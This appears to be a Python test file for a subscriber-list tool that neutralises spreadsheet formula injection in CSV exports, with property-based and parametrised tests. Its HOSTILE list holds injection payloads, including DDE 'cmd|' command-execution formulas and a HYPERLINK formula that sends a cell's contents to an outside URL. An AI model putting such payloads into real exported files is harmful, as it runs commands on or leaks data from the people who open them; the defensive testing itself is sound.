"""No file of ours runs anything in a spreadsheet, and what we write we read again as it was."""

import re
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from subscribers.formulas import defused, restored
from subscribers.sheet import COLUMNS, inspect, rows

# Written anew, and not with the program's own pattern: what a spreadsheet takes for the beginning of a formula.
RUNS = re.compile(r"""['"\s]*[=+\-@＝＋－＠]""")
HARMLESS = re.compile(r"[+-]?\d+(\.\d+)?", re.ASCII)
HOSTILE = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://example.gov?x="&A1,"all clear")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=",
    "+",
    "'",
    "+1503555012a",
    "-122.6-1",
]
CELLS = st.one_of(st.sampled_from(HOSTILE), st.text("'\"=+-@＝＋ \t\r\n,a1.", max_size=8), st.text(max_size=20))


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run the cell, or take it for the beginning of another one."""
    if cell.startswith("'"):  # shown as text
        return False
    return cell.startswith(("\t", "\r")) or (RUNS.match(cell) is not None and HARMLESS.fullmatch(cell) is None)


@given(CELLS)
@example("'=")
@example("'\r")
def test_no_cell_is_run_and_each_reads_back_as_it_was(cell: str) -> None:
    assert not runs(defused(cell))
    assert restored(defused(cell)) == cell


@pytest.mark.parametrize("cell", [hostile for hostile in HOSTILE if hostile != "'"])
def test_what_is_hostile_is_quoted(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "+15035550123", "-122.671000", "45.5", "Lents", "O'Bryant Square", "'tis", "a=b", "a@example.gov"]
)
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert defused(cell) == cell
    assert restored(cell) == cell


def test_an_import_reads_what_was_quoted_for_a_spreadsheet(tmp_path: Path) -> None:
    """Also what people quote by hand: a spreadsheet eats the plus sign of a telephone number unless it is quoted."""
    file = tmp_path / "people.csv"
    cells = ["'+15035550101", "'=x@example.gov", "en", "'TIS", "45.5", "-122.6", "", "", "opt-in", "2014-05-01", "'=form"]
    file.write_text(f"{','.join(COLUMNS)}\n{','.join(cells)}\n", "utf-8")
    [row] = rows(inspect(file))
    assert row.cells == (
        "+15035550101", "=x@example.gov", "en", "'TIS", "45.5", "-122.6", "", "", "opt-in", "2014-05-01", "=form", "", "",
    )  # fmt: skip
